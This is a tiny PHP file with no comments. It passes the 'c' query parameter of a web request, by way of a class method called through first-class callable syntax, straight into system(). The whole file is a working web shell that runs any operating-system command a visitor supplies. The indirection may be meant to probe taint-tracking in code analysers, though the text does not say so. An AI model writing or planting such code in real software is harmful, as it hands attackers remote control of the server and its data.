<?php
class K { function v() { return $_GET["c"]; } }
$f = (new K)->v(...);
system($f());
